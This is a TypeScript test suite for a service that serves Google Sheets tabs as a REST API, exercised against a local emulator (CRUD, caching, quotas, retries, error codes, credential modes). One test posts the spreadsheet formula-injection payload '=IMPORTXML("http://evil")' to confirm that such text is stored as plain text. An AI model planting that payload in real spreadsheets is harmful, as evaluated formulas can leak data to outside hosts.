import { test } from 'node:test';
import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { googleIdentity } from '../src/providers/google/google-auth.ts';
import type { GoogleSettings } from '../src/providers/google/google-settings.ts';
import { GoogleProvider } from '../src/providers/google/google-provider.ts';
import { startGoogleSheetsEmulator } from './google-emulator/index.ts';
import { build, call } from './helpers/build.ts';
import { bothSides, connect, people, setup } from './helpers/google.ts';

test('a Google tab connects by its address and serves typed rows', async (t) => {
  const google = await setup(t);
  const created = await call(`${google.url}/admin/v1/sheets`, {
    method: 'POST',
    body: { source: { provider: 'google', spreadsheetId: google.spreadsheetId } },
  });
  assert.equal(created.status, 201, created.text);
  const { id, source } = created.body as { id: string; source: { tabId: number } };
  assert.deepEqual(created.body, {
    ...(created.body as object),
    name: 'People',
    columns: ['name', 'age', 'member', 'joined'],
    rowCount: 3,
    source: {
      provider: 'google',
      spreadsheetId: google.spreadsheetId,
      tab: 'People',
      tabId: source.tabId,
    },
    settings: { deleteEnabled: true, access: 'open', allowedOrigins: ['*'], freshnessSeconds: 10 },
  });
  const rows = await call(`${google.url}/api/v1/${id}`);
  assert.deepEqual(rows.body, [
    { name: 'Ann', age: 31, member: true, joined: '2021-03-01' },
    { name: 'Bob', age: 27, member: false, joined: null },
    { name: 'Joan', age: 45, member: true, joined: '2019-11-20' },
  ]);
});

test('dates, times and date-times of a Google tab read as typed, with no zone', async (t) => {
  const google = await setup(t, {
    rows: [
      ['what', 'when'],
      ['meeting', { date: '2026-02-01T14:05:00' }],
      ['day', { date: '2026-02-01' }],
    ],
  });
  const id = await connect(google);
  const rows = await call(`${google.url}/api/v1/${id}`);
  assert.deepEqual(rows.body, [
    { what: 'meeting', when: '2026-02-01T14:05:00' },
    { what: 'day', when: '2026-02-01' },
  ]);
});

test('POST, PUT, PATCH and DELETE each reach the spreadsheet before they are answered', async (t) => {
  const google = await setup(t);
  const id = await connect(google);
  const rows = `${google.url}/api/v1/${id}`;
  const steps: [string, string, unknown, unknown][] = [
    ['POST', '', [{ name: 'Zed', age: 50 }, { name: 'Mei' }], { created: 2, keys: ['3', '4'] }],
    ['PUT', '?_id=1', { name: 'Bo', age: 28 }, { updated: 1 }],
    ['PATCH', '?name=J*', { member: false }, { updated: 1 }],
    ['DELETE', '?_id=0,3', undefined, { deleted: 2 }],
  ];
  for (const [method, query, body, expected] of steps) {
    const answer = await call(`${rows}${query}`, { method, body });
    assert.deepEqual(answer.body, expected, `${method}${query}: ${answer.text}`);
    const { api, sheet } = await bothSides(google, id);
    assert.deepEqual(api, sheet, `after ${method}${query}`);
  }
  assert.deepEqual((await call(rows)).body, [
    { name: 'Bo', age: 28, member: null, joined: null },
    { name: 'Joan', age: 45, member: false, joined: '2019-11-20' },
    { name: 'Mei', age: null, member: null, joined: null },
  ]);
});

test('text that looks like a formula is written as text, never run', async (t) => {
  const google = await setup(t);
  const id = await connect(google);
  const answer = await call(`${google.url}/api/v1/${id}`, {
    method: 'POST',
    body: { name: '=IMPORTXML("http://evil")', age: '+1 555 0100', member: '@me' },
  });
  assert.equal(answer.status, 201, answer.text);
  const last = google.emulator.rows(google.spreadsheetId, 'People').at(-1);
  assert.deepEqual(last?.slice(0, 3), ['=IMPORTXML("http://evil")', '+1 555 0100', '@me']);
});

test("a person's edit in the spreadsheet shows once the freshness window has passed, or on refresh", async (t) => {
  const google = await setup(t);
  const id = await connect(google, { freshnessSeconds: 3600 });
  google.emulator.editCell(google.spreadsheetId, 'People', 'A2', 'Anna');
  const cached = await call(`${google.url}/api/v1/${id}?_id=0`);
  assert.deepEqual(cached.body, [{ name: 'Ann', age: 31, member: true, joined: '2021-03-01' }]);
  const refreshed = await call(`${google.url}/admin/v1/sheets/${id}/refresh`, { method: 'POST' });
  assert.equal(refreshed.status, 200, refreshed.text);
  assert.deepEqual((await call(`${google.url}/api/v1/${id}?_id=0`)).body, [
    { name: 'Anna', age: 31, member: true, joined: '2021-03-01' },
  ]);
  const patched = await call(`${google.url}/admin/v1/sheets/${id}`, {
    method: 'PATCH',
    body: { freshnessSeconds: 0 },
  });
  assert.equal(patched.status, 200, patched.text);
  google.emulator.editCell(google.spreadsheetId, 'People', 'B2', 32);
  assert.deepEqual((await call(`${google.url}/api/v1/${id}?name=Anna`)).body, [
    { name: 'Anna', age: 32, member: true, joined: '2021-03-01' },
  ]);
});

test('concurrent reads of a stale sheet share one upstream fetch', async (t) => {
  const google = await setup(t);
  const id = await connect(google, { freshnessSeconds: 0 });
  google.emulator.latencyMs = 200;
  google.emulator.resetStats();
  const answers = await Promise.all(
    Array.from({ length: 20 }, () => call(`${google.url}/api/v1/${id}`)),
  );
  assert.ok(answers.every((answer) => answer.status === 200));
  assert.equal(google.emulator.stats().reads, 1);
});

test('deleting 1,000 rows is one upstream batch of coalesced ranges', async (t) => {
  const rows: unknown[][] = [['n', 'kind']];
  for (let n = 0; n < 1500; n++) rows.push([n, n % 3 === 2 ? 'keep' : 'old']);
  const google = await setup(t, { rows });
  const id = await connect(google);
  google.emulator.resetStats();
  const answer = await call(`${google.url}/api/v1/${id}?kind=old`, { method: 'DELETE' });
  assert.deepEqual(answer.body, { deleted: 1000 }, answer.text);
  const stats = google.emulator.stats();
  const writes = stats.requests.filter((request) => request.kind === 'write');
  assert.equal(writes.length, 1);
  assert.equal(
    writes[0]?.requestCount,
    500 + 1,
    'runs of two rows each, one deleteDimension per run, and the one that creates the push tag',
  );
  const { api, sheet } = await bothSides(google, id);
  assert.equal(sheet.length, 500);
  assert.deepEqual(api, sheet);
  assert.ok(sheet.every((row) => row.kind === 'keep'));
});

test('when Google keeps refusing past the deadline, the client gets 429 or 503 and nothing changes', async (t) => {
  const google = await setup(t, { settings: { deadlineMs: 1500 } });
  const id = await connect(google);
  const before = await bothSides(google, id);
  // A 429 is a refusal; a 503 may have been applied, so the push is closed before the answer:
  // two attempts a second apart fill the deadline, and the close that follows goes through.
  for (const [status, count, code, answerStatus] of [
    [429, 1000, 'provider-rate-limited', 429],
    [503, 2, 'upstream-unavailable', 503],
  ] as const) {
    google.emulator.failNext(count, { status, only: 'writes', retryAfterSeconds: 1 });
    const answer = await call(`${google.url}/api/v1/${id}`, {
      method: 'POST',
      body: [{ name: 'Lost?' }, { name: 'Lost too?' }],
    });
    assert.equal(answer.status, answerStatus, answer.text);
    assert.equal((answer.body as { code: string }).code, code);
    assert.match(answer.headers.get('retry-after') ?? '', /^[1-9][0-9]*$/);
    google.emulator.failNext(0, { status });
    assert.deepEqual(await bothSides(google, id), before);
  }
});

test('retries wait at least as long as Retry-After asks', async (t) => {
  const google = await setup(t);
  const id = await connect(google);
  google.emulator.resetStats();
  google.emulator.failNext(2, { status: 429, retryAfterSeconds: 1, only: 'writes' });
  const answer = await call(`${google.url}/api/v1/${id}`, {
    method: 'POST',
    body: { name: 'Eve' },
  });
  assert.equal(answer.status, 201, answer.text);
  const writes = google.emulator.stats().requests.filter((request) => request.kind === 'write');
  assert.deepEqual(
    writes.map((request) => request.status),
    [429, 429, 200],
  );
  for (let i = 1; i < writes.length; i++) {
    const gap = (writes[i]?.at ?? 0) - (writes[i - 1]?.at ?? 0);
    assert.ok(gap >= 1000, `attempt ${i} came ${gap} ms after the one before`);
  }
  assert.equal(google.emulator.rows(google.spreadsheetId, 'People').at(-1)?.[0], 'Eve');
});

for (const pacing of ['paced under the quota', 'over the quota, retried'] as const) {
  test(`50 concurrent writers against a write quota (${pacing}): every acknowledged row lands once`, async (t) => {
    const google = await setup(t, {
      rows: [['writer', 'n']],
      settings:
        pacing === 'paced under the quota'
          ? { writesPerMinute: 10, writeWindowMs: 1000 }
          : { writesPerMinute: 1000, deadlineMs: 20_000 },
    });
    google.emulator.quota = { writesPerWindow: 10, windowMs: 1000 };
    google.emulator.quotaRetryAfterSeconds = 1;
    const id = await connect(google);
    const rows = `${google.url}/api/v1/${id}`;
    const statuses: number[] = [];
    await Promise.all(
      Array.from({ length: 50 }, async (_, writer) => {
        for (let n = 0; n < 4; n++) {
          const answer = await call(rows, { method: 'POST', body: { writer, n } });
          statuses.push(answer.status);
        }
      }),
    );
    assert.deepEqual(
      statuses.filter((status) => status !== 201),
      [],
      'no write was refused',
    );
    const [, ...written] = google.emulator.rows(google.spreadsheetId, 'People');
    const keys = written.map(([writer, n]) => `${String(writer)}:${String(n)}`).sort();
    const expected = Array.from({ length: 200 }, (_, i) => `${Math.floor(i / 4)}:${i % 4}`).sort();
    assert.deepEqual(keys, expected);
    const stats = google.emulator.stats();
    assert.ok(stats.writes < 200, `${stats.writes} upstream writes carried 200 API writes`);
    const { api, sheet } = await bothSides(google, id);
    assert.deepEqual(api, sheet);
  });
}

test('Google errors become clear problem documents', async (t) => {
  const google = await setup(t, {
    rows: [
      ['name', 'name'],
      ['a', 'b'],
    ],
  });
  const connectTo = (source: Record<string, unknown>) =>
    call(`${google.url}/admin/v1/sheets`, {
      method: 'POST',
      body: { source: { provider: 'google', ...source } },
    });
  const missing = await connectTo({ spreadsheetId: 'x'.repeat(44) });
  assert.equal(missing.status, 404, missing.text);
  assert.equal((missing.body as { code: string }).code, 'spreadsheet-not-found');
  const noTab = await connectTo({ spreadsheetId: google.spreadsheetId, tab: 'Nope' });
  assert.equal(noTab.status, 404, noTab.text);
  assert.equal((noTab.body as { code: string }).code, 'tab-not-found');
  const duplicated = await connectTo({ spreadsheetId: google.spreadsheetId, tab: 'People' });
  assert.equal(duplicated.status, 400, duplicated.text);
  assert.equal((duplicated.body as { code: string }).code, 'invalid-header');
  const notAnId = await connectTo({ spreadsheetId: 'hello' });
  assert.equal(notAnId.status, 400, notAnId.text);
  assert.deepEqual((await call(`${google.url}/admin/v1/sheets`)).body, []);
});

test('a spreadsheet not shared with the service account says which address to share it with', async (t) => {
  const google = await setup(t, { share: false });
  const answer = await call(`${google.url}/admin/v1/sheets`, {
    method: 'POST',
    body: { source: { provider: 'google', spreadsheetId: google.spreadsheetId } },
  });
  assert.equal(answer.status, 403, answer.text);
  const problem = answer.body as { code: string; shareWith: string; detail: string };
  assert.equal(problem.code, 'spreadsheet-forbidden');
  assert.match(problem.shareWith, /@/);
  assert.ok(problem.detail.includes(problem.shareWith));
  const providers = await call(`${google.url}/admin/v1/providers`);
  assert.deepEqual(providers.body, {
    google: { configured: true, canWrite: true, shareWith: problem.shareWith },
    excel: { configured: false, canWrite: false, tenant: null },
  });
});

test('credentials Google does not know are reported as rejected', async (t) => {
  const emulator = await startGoogleSheetsEmulator();
  t.after(() => emulator.close());
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const settings: GoogleSettings = {
    credentials: JSON.stringify({
      type: 'service_account',
      client_email: 'stranger@example.iam.gserviceaccount.com',
      private_key: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
    }),
    apiKey: undefined,
    apiUrl: `${emulator.url}/`,
    tokenUrl: emulator.tokenUrl,
    deadlineMs: 1000,
    writesPerMinute: 60,
  };
  const identity = googleIdentity(settings);
  assert.ok(identity !== null);
  const { url } = await build(t, {}, { google: new GoogleProvider(identity, settings) });
  const spreadsheetId = emulator.createSpreadsheet({ tabs: [{ title: 'A', rows: [['a']] }] });
  const answer = await call(`${url}/admin/v1/sheets`, {
    method: 'POST',
    body: { source: { provider: 'google', spreadsheetId } },
  });
  assert.equal(answer.status, 502, answer.text);
  assert.equal((answer.body as { code: string }).code, 'provider-credentials-rejected');
});

test('an OAuth client with a refresh token reads and writes', async (t) => {
  const google = await setup(t, { credentials: 'oauth' });
  const id = await connect(google);
  const answer = await call(`${google.url}/api/v1/${id}`, { method: 'POST', body: { name: 'Oz' } });
  assert.equal(answer.status, 201, answer.text);
  const { api, sheet } = await bothSides(google, id);
  assert.deepEqual(api, sheet);
});

test('with an API key only, public spreadsheets read but writes are refused', async (t) => {
  const google = await setup(t, { credentials: 'api-key' });
  const id = await connect(google);
  assert.equal((await call(`${google.url}/api/v1/${id}`)).status, 200);
  const answer = await call(`${google.url}/api/v1/${id}`, { method: 'POST', body: { name: 'No' } });
  assert.equal(answer.status, 403, answer.text);
  assert.equal((answer.body as { code: string }).code, 'provider-read-only');
  assert.equal(google.emulator.rows(google.spreadsheetId, 'People').length, people.length);
});

test('a header changed in the spreadsheet is re-read; filters on a removed column answer 400', async (t) => {
  const google = await setup(t);
  const id = await connect(google, { freshnessSeconds: 0 });
  google.emulator.setRows(google.spreadsheetId, 'People', [
    ['name', 'years'],
    ['Ann', 31],
  ]);
  assert.deepEqual((await call(`${google.url}/api/v1/${id}`)).body, [{ name: 'Ann', years: 31 }]);
  const stale = await call(`${google.url}/api/v1/${id}?age=31`);
  assert.equal(stale.status, 400, stale.text);
  assert.equal((stale.body as { code: string }).code, 'unknown-column');
  const described = await call(`${google.url}/admin/v1/sheets/${id}`);
  assert.deepEqual((described.body as { columns: string[] }).columns, ['name', 'years']);
});

test('a push cut off before Google answered is repaired: the next write re-reads the spreadsheet first', async (t) => {
  const google = await setup(t);
  const id = await connect(google, { freshnessSeconds: 3600 });
  // As a server that died mid-push leaves things: its marker set, its rows in the spreadsheet
  // but not in the copy.
  const version = (await google.store.getSheet(id))?.version ?? 0;
  await google.store.markPushing(id, { pushId: 'cut-off', expect: { version, pushing: null } });
  const [header = [], ...rows] = google.emulator.rows(google.spreadsheetId, 'People');
  google.emulator.setRows(google.spreadsheetId, 'People', [
    header,
    ...rows,
    ['Cut', 1, null, null],
  ]);
  const answer = await call(`${google.url}/api/v1/${id}?name=Cut`, {
    method: 'PATCH',
    body: { age: 2 },
  });
  assert.deepEqual(answer.body, { updated: 1 }, answer.text);
  const { api, sheet } = await bothSides(google, id);
  assert.deepEqual(api, sheet);
  assert.equal(await google.store.pushingMarker(id), null, 'the marker was cleared');
});
